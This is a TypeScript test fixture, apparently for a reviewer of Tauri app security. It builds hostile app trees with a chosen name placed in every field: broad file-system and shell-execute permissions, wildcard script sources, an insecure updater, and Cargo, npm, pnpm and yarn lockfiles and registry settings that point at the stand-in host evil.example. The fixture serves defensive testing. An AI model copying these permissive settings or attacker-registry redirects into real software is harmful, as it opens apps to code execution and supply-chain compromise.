import {
  app,
  CAPABILITY_PATH,
  CONFIG_PATH,
  capability,
  config,
  LOCK_PATH,
  PERMISSION_PATH,
} from "../hostile/apps.ts";
import type { Files } from "../hostile/reviewer.ts";
import { buildsNamed, bundleNamed } from "./named-builds.ts";

/** Two apps that grant much more than the first alone did, with one name in every place where people choose one. */
export function treeNamed(name: string): Files {
  // A file's name has no slash, and is no longer than file systems have it.
  const file = name.replaceAll("/", "").slice(0, 100);
  return app({
    ...capabilitiesNamed(name),
    [`src-tauri/capabilities/${file}.json`]: capability({ identifier: "file", permissions: ["fs:read-all"] }),
    [CONFIG_PATH]: config(configNamed(name)),
    [`src-tauri/tauri.${file}.conf.json`]: config({ app: { security: { csp: "script-src *" } } }),
    [PERMISSION_PATH.replace(".toml", ".json")]: JSON.stringify({
      permission: [{ identifier: name, commands: { allow: [name], deny: [] } }],
      set: [{ identifier: `${name}-set`, permissions: [name] }],
    }),
    ...rustNamed(name),
    ...npmNamed(name),
    ...otherApp(file, name),
    ...buildsNamed(name, file),
  });
}

/** Names in one capability apart from those in others: what is wrong with one of them would hide the rest. */
function capabilitiesNamed(name: string): Files {
  const read = { identifier: "fs:allow-read-text-file", allow: ["/**"] };
  const remote = { urls: [name, `https://${name}/*`, `https://example.com/${name}`, "https://*"] };
  const capabilities = {
    identifier: { identifier: name, permissions: [read] },
    windows: { windows: [name, `${name}*`], permissions: [read] },
    webviews: { webviews: [name], permissions: [read] },
    remote: { remote, permissions: [read] },
    platforms: { platforms: [name], permissions: [read] },
    permissions: { permissions: [name, `${name}-set`, `${name}:allow-x`, `fs:allow-${name}`] },
    paths: { permissions: [{ ...read, allow: [`/${name}/**`, { path: name }, "/srv/**"] }] },
    addresses: {
      permissions: [{ identifier: "http:default", allow: [{ url: `https://${name}/*` }, { url: name }] }],
    },
    programs: {
      permissions: [
        {
          identifier: "shell:allow-execute",
          allow: [
            { name, cmd: name, args: [name, { validator: name }] },
            { name: "sh", cmd: name, args: true },
          ],
        },
      ],
    },
    keys: { permissions: [{ identifier: "x:allow-y", allow: [{ [name]: name }] }] },
  };
  return Object.fromEntries(
    Object.entries(capabilities).map(([kind, changes]) => [
      CAPABILITY_PATH.replace("main.json", `of-${kind}.json`),
      capability({ identifier: `of-${kind}`, ...changes }),
    ]),
  );
}

function configNamed(name: string): Readonly<Record<string, unknown>> {
  return {
    productName: name,
    mainBinaryName: name,
    [name]: { [name]: name },
    build: { beforeBuildCommand: name, frontendDist: name, devUrl: `http://${name}` },
    bundle: bundleNamed(name),
    plugins: {
      updater: { endpoints: [`https://${name}/x`], pubkey: name, dangerousInsecureTransportProtocol: true },
      "deep-link": { desktop: { schemes: [name] } },
      [name]: { [name]: name },
    },
    app: {
      withGlobalTauri: true,
      windows: [
        {
          label: name,
          url: `https://example.com/${name}`,
          additionalBrowserArgs: `--${name}`,
          userAgent: name,
        },
        { label: "other", url: `https://${name}`, proxyUrl: `http://${name}`, devtools: true },
      ],
      security: {
        csp: { [name]: name, "script-src": ["*", name, `${name}:`, `${name}://x`, `https://${name}`] },
        headers: { [name]: name, "Access-Control-Allow-Origin": name },
        assetProtocol: { enable: true, scope: [name, `/${name}/**`, "/**"] },
      },
    },
  };
}

function rustNamed(name: string): Files {
  const text = tomlString(name);
  const crates = [
    { name, version: "1.0.0", source: "git+https://evil.example/x#abc" },
    { name: "in-version", version: name, source: "git+https://evil.example/x#abc" },
    {
      name: "in-source",
      version: "1.0.0",
      source: `git+https://evil.example/${name}?branch=${name}#${name}`,
    },
    { name: "in-registry", version: "1.0.0", source: `registry+https://${name}/index` },
  ].map((fields) => {
    const lines = Object.entries(fields).map(([key, value]) => `${key} = ${tomlString(value)}`);
    return `[[package]]\n${lines.join("\n")}\n`;
  });
  return {
    [LOCK_PATH]: `${app()[LOCK_PATH]}\n${crates.join("\n")}`,
    "src-tauri/Cargo.toml": `[package]\nname = ${text}\n[dependencies]\n${text} = ${text}\n[features]\n${text} = [${text}]\n[patch.crates-io]\n${text} = { git = ${text} }\n`,
    ".cargo/config.toml": `[source.crates-io]\nreplace-with = ${text}\n[source.${text}]\nregistry = ${text}\n[build]\nrustc-wrapper = ${text}\n`,
    "src-tauri/src/lib.rs": `fn f() { app.add_capability(${text}); app.fs_scope().allow_file(${text}); }\n`,
    "src-tauri/build.rs": `fn main() { Attributes::new().plugin(${text}, InlinedPlugin::new().commands(&[${text}])); }\n`,
  };
}

function npmNamed(name: string): Files {
  const locked = {
    version: name,
    resolved: `https://evil.example/${name}`,
    integrity: name,
    hasInstallScript: true,
  };
  return {
    "package.json": JSON.stringify({
      name,
      scripts: { [name]: `tauri build --config ${name}`, build: name, postinstall: name },
      dependencies: { [name]: name },
    }),
    "package-lock.json": JSON.stringify({
      lockfileVersion: 3,
      packages: { "": { dependencies: { [name]: name } }, [`node_modules/${name}`]: locked },
    }),
    ".npmrc": `registry=https://evil.example/${name}\n@x:registry=${name}\n${name}=${name}\n`,
    ".github/workflows/release.yml": JSON.stringify({
      on: "push",
      jobs: { [name]: { name, steps: [{ name, run: `npx tauri build --config ${name}` }] } },
    }),
  };
}

/** An app in a folder of that name, whose packages another manager pins. */
function otherApp(folder: string, name: string): Files {
  const pinned = { resolution: { tarball: `https://evil.example/${name}` }, requiresBuild: true };
  const files: Files = {
    [CONFIG_PATH]: config({
      identifier: name,
      app: { security: { csp: `script-src ${name} https:; ${name} *` } },
    }),
    [CAPABILITY_PATH]: capability({
      permissions: ["fs:allow-read-text-file"],
      remote: { urls: ["https://*"] },
    }),
    "pnpm-lock.yaml": JSON.stringify({ lockfileVersion: "9.0", packages: { [`${name}@1.0.0`]: pinned } }),
    "yarn.lock": `"${name}@^1.0.0":\n  version "${name}"\n  resolved "https://evil.example/${name}"\n`,
  };
  return Object.fromEntries(Object.entries(files).map(([path, text]) => [`${folder}/${path}`, text]));
}

/** TOML's and Rust's strings take JSON's escapes, save for halves of surrogate pairs and a few controls. */
function tomlString(text: string): string {
  return JSON.stringify(text.toWellFormed()).replaceAll("\u007f", "\\u007f");
}
